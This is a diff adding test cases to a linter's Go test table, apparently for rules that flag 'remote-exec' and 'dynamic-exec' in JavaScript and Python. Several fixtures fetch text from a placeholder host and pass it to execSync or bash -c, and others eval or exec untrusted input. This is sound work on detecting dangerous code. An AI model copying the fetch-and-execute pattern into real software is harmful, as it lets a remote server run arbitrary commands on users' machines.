@@ -191,6 +191,13 @@ var codeCases = []lintCase{
 	// what a local function returns is unknown, and built when it builds it
 	{"a.js", "dynamic-exec", "function initials(xs) { return xs.map(x => x[0]).join(''); }\nconst m = require(initials(['vertical', 'middle']));\n", "warning", 2},
 	{"a.js", "dynamic-exec", "function unmask(h) { let o = ''; for (const c of h) o += c; return o; }\neval(unmask(process.argv[2]));\n", "warning", 2},
+	// a function's value as an argument of a command the text names runs no code; as the command, or a shell's, it does
+	{"a.js", "remote-exec", "const cp = require('child_process');\nfunction conv(p) { cp.execSync(`convert \"${p}\" out.png`); }\nasync function main() { const t = await (await fetch('https://x.example/c')).text(); conv(t); }\n", "", 0},
+	{"a.js", "remote-exec", "const cp = require('child_process');\nfunction run(p) { cp.execSync(`bash -c \"${p}\"`); }\nasync function main() { const t = await (await fetch('https://x.example/c')).text(); run(t); }\n", "warning", 3},
+	{"a.js", "remote-exec", "const cp = require('child_process');\nfunction run(cmd) { cp.execSync(cmd); }\nasync function main() { const t = await (await fetch('https://x.example/c')).text(); run(t); }\n", "warning", 3},
+	// arithmetic and the language's numeric functions give a number, which carries no code
+	{"a.mjs", "remote-exec", "const { execSync } = await import('child_process');\nconst r = await (await fetch('https://x.example/m')).json();\nconst h = Math.ceil(r.height);\nexecSync(`convert -resize ${h * 2} a.png b.png`);\n", "", 0},
+	{"a.mjs", "remote-exec", "const { execSync } = await import('child_process');\nconst r = await (await fetch('https://x.example/m')).json();\nexecSync(`convert -resize ${r.height} a.png b.png`);\n", "warning", 3},
 	// An item got from a container the analysis does not follow is unknown, never nothing.
 	{"p.py", "dynamic-exec", "import importlib\nLOADERS = {\".csv\": \"delimited\"}\ndef load(path):\n    x = LOADERS.get(path)\n    return importlib.import_module(f\"profilers.{x}\")\n", "", 0},
 	{"p.py", "dynamic-exec", "def load(d, path):\n    exec(d.get(path))\n", "warning", 2},
